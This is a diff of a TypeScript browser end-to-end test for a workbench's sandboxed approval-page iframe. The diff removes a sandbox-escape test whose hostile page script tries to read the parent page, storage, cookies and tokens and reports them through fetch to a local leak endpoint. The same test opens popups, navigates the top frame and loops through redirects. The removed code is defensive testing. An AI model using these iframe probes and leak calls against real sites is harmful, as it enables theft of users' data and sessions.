@@ -1,6 +1,4 @@
-// The workbench in the browser: a morning by pointer, the approval page in its frame, and a page of others that is hostile.
-import { createServer, type Server } from 'node:http';
-import type { AddressInfo } from 'node:net';
+// The workbench in the browser: a morning by pointer, and the approval page of the organisation in its frame.
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import type { Page } from 'playwright-core';
 import type { Office } from '#sdk/office.ts';
@@ -12,48 +10,9 @@ let page: Page;
 let mine: Office;
 let other: Office;
 let power: Office;
-let server: Server;
-let hostile = '';
-/** What the hostile page got hold of, told by itself; and everything it was asked with. */
-const leaks: string[] = [];
-const asked: { url: string; headers: Record<string, unknown> }[] = [];
-
-/** Tries everything that a page in a frame may try, and tells its own server what it got. */
-const hostilePage = `<!doctype html><title>x</title><script>
-const told = (what) => fetch('/leak?' + encodeURIComponent(what), { mode: 'no-cors' });
-const attempt = (name, work) => { try { const got = work(); told(name + '=' + String(got)); } catch { told(name + '=refused'); } };
-attempt('parent', () => parent.document.body.innerText);
-attempt('storage', () => parent.localStorage.length);
-attempt('own storage', () => localStorage.length);
-attempt('cookie', () => document.cookie);
-attempt('opened', () => window.open('/opened') === null ? 'refused' : 'a window');
-attempt('top', () => { top.location.href = '/top'; return 'asked'; });
-attempt('name', () => { parent.location = '/parent'; return 'asked'; });
-attempt('download', () => { const a = document.createElement('a'); a.href = '/d'; a.download = 'x'; a.click(); return 'asked'; });
-attempt('blank', () => { const a = document.createElement('a'); a.href = '/blank'; a.target = '_blank'; a.click(); return 'asked'; });
-attempt('popup', () => { alert(1); return 'asked'; });
-addEventListener('message', (event) => told('answered=' + JSON.stringify(event.data)));
-for (const data of ['token', { type: 'getToken' }, { kind: 'call', method: 'todo.list' }, { id: 1, call: 'account.token' }])
-  parent.postMessage(data, '*');
-setTimeout(() => { location.href = '/again?1'; }, 300);
-</script>`;
 
 beforeAll(async () => {
   if (!there) return;
-  server = createServer((request, answer) => {
-    const { url = '/', headers } = request;
-    asked.push({ url, headers });
-    if (url.startsWith('/leak?')) leaks.push(decodeURIComponent(url.slice(6)));
-    const round = /^\/again\?(\d+)$/u.exec(url)?.[1];
-    // Without end: each page leads to the next.
-    if (round !== undefined)
-      return void answer
-        .writeHead(200, { 'content-type': 'text/html' })
-        .end(`<script>setTimeout(() => location.replace('/again?${Number(round) + 1}'), 20)</script>`);
-    return void answer.writeHead(200, { 'content-type': 'text/html' }).end(hostilePage);
-  });
-  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
-  hostile = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
   stage = await openStage();
   page = await stage.page('shenzhixing', { timezoneId: 'Asia/Shanghai' });
   mine = await stage.client('shenzhixing');
@@ -62,10 +21,7 @@ beforeAll(async () => {
   power = await stage.client(root?.loginname ?? '');
 });
 afterAll(async () => {
-  if (!there) return;
-  await stage.close();
-  server.closeAllConnections();
-  server.close();
+  if (there) await stage.close();
 });
 
 /** Somebody asks for something that shenzhixing decides. */
@@ -145,40 +101,6 @@ test.skipIf(!there)(
     await expect.poll(() => stateOf(id)).toBe('approved');
     expect(await page.locator('iframe.tg-outside').getAttribute('sandbox')).toBe('allow-scripts allow-forms');
     await power.admin.setParameter('sys_pc_client_params', 'workflow_approval_page', undefined);
-  },
-);
-
-test.skipIf(!there)(
-  'a hostile page gets nothing: not our page, not a window, not a token, and it may not keep us',
-  async () => {
-    const category = await power.apps.putCategory({ name: { zh: '外部', en: 'Outside' } });
-    const audience = [{ kind: 'everybody' as const }];
-    const plan = { categoryId: category.id, kind: 'page' as const, audience };
-    const app = await power.apps.put({
-      ...plan,
-      name: { zh: '恶意页面', en: 'Hostile' },
-      target: `${hostile}/`,
-    });
-    await open(`/main/apps/open/${app.id}`);
-    const here = page.url();
-    await expect
-      .poll(() => asked.filter(({ url }) => url.startsWith('/again?')).length, { timeout: 60_000 })
-      .toBeGreaterThan(5);
-    expect(page.url()).toBe(here);
-    expect(page.context().pages().length).toBe(1);
-    expect(leaks.length).toBeGreaterThan(6);
-    expect(leaks.filter((leak) => !/=(?:refused|asked|null)?$/u.test(leak))).toEqual([]);
-    expect(leaks.some((leak) => leak.startsWith('answered='))).toBe(false);
-    const heads = JSON.stringify(asked.map(({ headers }) => Object.keys(headers)));
-    for (const name of ['authorization', 'cookie', 'referer'])
-      expect(heads.includes(`"${name}"`), name).toBe(false);
-    const said = JSON.stringify(asked);
-    for (const word of ['thirdToken', 'hhid_']) expect(said.includes(word), word).toBe(false);
-    const urls = asked.map(({ url }) => url);
-    for (const path of ['/opened', '/top', '/parent', '/blank', '/d']) expect(urls).not.toContain(path);
-    // It goes on without end, and we leave it all the same.
-    await page.getByRole('button', { name: '返回' }).first().click();
-    await page.waitForURL('**/main/apps');
   },
 );
 
